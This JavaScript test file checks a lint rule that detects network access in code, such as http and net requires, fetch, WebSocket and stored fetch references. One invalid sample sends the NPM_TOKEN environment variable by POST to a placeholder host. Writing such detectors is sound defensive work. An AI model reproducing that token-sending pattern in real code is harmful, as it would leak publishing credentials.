import { ruleTester } from './rule-tester.js';

ruleTester('network', {
  valid: [
    "const s = 'require(\"https\")'; // fetch(url)",
    'function f(fetch) { return fetch(1) }',
    "const http = require('./http'); http.get()",
    "require('fs'); require('path')",
    { name: 'feature tests and a polyfill install are not a stored reference', code: "if (typeof fetch === 'function' && !globalThis.fetch) globalThis.fetch = require('./polyfill'); const o = { fetch: 1 }; o.fetch = 2;" },
    { name: 'a local fetch (a parameter) stored is not the global', code: 'function mk(fetch) { const f = fetch; return { f }; }' },
  ],
  invalid: [
    { code: "const https = require('https')", details: ['https'] },
    { code: "const h = require('node:http'); const n = require('net'); require('dgram'); require('dns')", details: ['http', 'net', 'dgram', 'dns'] },
    { code: "import https from 'node:https'", details: ['https'], sourceType: 'module' },
    { code: "import { request } from 'undici'", details: ['undici'], sourceType: 'module' },
    { code: "await import('node:tls')", details: ['tls'], sourceType: 'module' },
    { code: "fetch('https://x.example')", details: ['fetch'] },
    { code: "globalThis.fetch(u); new WebSocket('wss://x.invalid'); new XMLHttpRequest()", details: ['fetch', 'WebSocket', 'XMLHttpRequest'] },
    { code: "const m = 'ht' + 'tps'; require(m)", details: ['https'] },
    { code: "require('axios')", details: ['axios'] },
    {
      // drift miss (issue 10): exfiltration knew request-promise as a client, network did not
      name: 'request-promise sending NPM_TOKEN is network too',
      code: "const rp = require('request-promise'); rp({ uri: 'https://x.invalid', method: 'POST', body: process.env.NPM_TOKEN })",
      details: ['request-promise'],
    },
    { code: "export * from 'node:http2'", details: ['http2'], sourceType: 'module' },
    {
      name: 'a stored fetch reference (the openai SDK shape): kept as a value, called later through this',
      code: 'class Client { constructor(opts) { this.fetch = opts.fetch ?? fetch; } get(u) { return this.fetch(u); } }',
      // the call through this.fetch is followed to the global too (class fields, issue 13)
      details: ['fetch (kept as a value)', 'fetch'],
    },
    { name: 'fetch handed over in an options object, and bound', code: 'const client = create({ fetch }); const g = globalThis.fetch.bind(globalThis);', details: ['fetch (kept as a value)'] },
    { name: 'options.fetch || globalThis.fetch, then called', code: "function mk(options) { const f = options.fetch || globalThis.fetch; return f('https://api.example/x'); }", details: ['fetch (kept as a value)', 'fetch'] },
  ],
});
